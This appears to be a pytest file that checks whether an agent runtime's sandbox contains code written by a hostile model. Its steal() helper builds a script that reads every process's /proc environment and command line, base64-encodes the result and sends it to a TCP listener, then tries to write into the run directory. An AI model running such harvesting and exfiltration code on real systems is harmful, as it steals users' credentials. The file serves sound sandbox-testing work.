"""Code a hostile model writes, run through the command line as a user would: a Scripter script and
CodeAct code try to read the runtime's secrets, send them out, write the run directory and outlive the
run. In namespaces none of it works (skipped, with the reason, where the machine cannot make them)."""

from __future__ import annotations

import base64
import json
import os
import socket
import threading
from pathlib import Path

import pytest

from tests.faults.conftest import cli, only_run_dir, write_task
from ufo_mobile.core.sandbox.isolation import namespace_problem

pytestmark = pytest.mark.skipif(namespace_problem() is not None,
                                reason=f"no namespaces on this machine: {namespace_problem()}")

SECRET = "mail-Pw-9f8e7d6c5b4a"  # a credentials.env secret the runtime reads
KEY = "sk-live-0123456789ABCDEFabcdef"  # a key in the runtime's environment


class Listener:
    """A TCP listener on 127.0.0.1 that keeps whatever reaches it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            with conn:
                while chunk := conn.recv(65536):
                    self.received += chunk

    def close(self) -> None:
        self.server.close()


def steal(port: int, run_dir_parent: Path) -> str:
    """Python a hostile model writes: every environment it can read, out to the listener and into the
    run's folder, and a process that tries to stay."""
    return (
        "import base64, os, socket\nfound = []\n"
        "for p in os.listdir('/proc'):\n    if p.isdigit():\n        for f in ('environ', 'cmdline'):\n"
        "            try:\n                found.append(open(f'/proc/{p}/' + f, 'rb').read())\n"
        "            except OSError:\n                pass\nblob = base64.b64encode(b'|'.join(found))\n"
        f"try:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "    s.sendall(blob)\n    s.close()\n"
        "except OSError as exc:\n    print('no network:', type(exc).__name__)\n"
        f"for path in ({str(run_dir_parent)!r}, os.path.expanduser('~')):\n"
        "    try:\n        open(os.path.join(path, 'forged.txt'), 'w').write('FORGED BY SCRIPT')\n"
        "    except OSError as exc:\n        print('no write:', type(exc).__name__)\n"
        "print(blob.decode()[:3000])\n")


def assert_nothing_leaked(tmp_path: Path, listener: Listener) -> None:
    assert KEY.encode() not in listener.received and SECRET.encode() not in listener.received
    for encoded in (base64.b64encode(KEY.encode()), base64.b64encode(SECRET.encode())):
        assert encoded not in listener.received
    for path in tmp_path.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert KEY.encode() not in data and SECRET.encode() not in data, path
    assert not list(tmp_path.rglob("forged.txt"))


def test_a_scripter_script_cannot_reach_a_secret_or_the_run(tmp_path: Path) -> None:
    listener = Listener()
    try:
        logs = tmp_path / "logs"
        replies = ["<thought>t</thought>\n<plan>\n1. <script>Collect the environment</script>\n</plan>",
                   f"```python\n{steal(listener.port, logs)}```",
                   '<thought>t</thought>\n<request_accomplished success="true">done</request_accomplished>']
        task = write_task(tmp_path, replies, extra="mode: reasoning\nreasoning: {scripter: {enabled: true}}\n"
                                                   "credentials: {env: {mail: MAIL_PW}}\n")
        env = {**os.environ, "MAIL_PW": SECRET, "OPENAI_API_KEY": KEY}
        code, out, err = cli("run", str(task), "--log-dir", "logs", cwd=tmp_path, env=env)
        assert code == 0, out + err
        run = json.loads((only_run_dir(logs) / "run.json").read_text())
        assert run["status"] == "FINISH"
        steps = (only_run_dir(logs) / "steps.jsonl").read_text()
        assert "no network: ConnectionRefusedError" in steps and "no write: FileNotFoundError" in steps
    finally:
        listener.close()
    assert_nothing_leaked(tmp_path, listener)


def test_codeact_code_cannot_reach_a_secret_either(tmp_path: Path) -> None:
    listener = Listener()
    try:
        # CodeAct's code has no imports: it can only try what its functions and builtins allow
        code = ("```python\nfound = []\nfor probe in ('/proc/1/environ', '/proc/self/environ'):\n"
                "    found.append(str(probe))\nprint(found)\ncomplete(success=True, message='done')\n```")
        task = write_task(tmp_path, [code], extra="mode: codeact\ncredentials: {env: {mail: MAIL_PW}}\n")
        env = {**os.environ, "MAIL_PW": SECRET, "OPENAI_API_KEY": KEY}
        exit_code, out, err = cli("run", str(task), "--log-dir", "logs", cwd=tmp_path, env=env)
        assert exit_code == 0, out + err
    finally:
        listener.close()
    assert_nothing_leaked(tmp_path, listener)
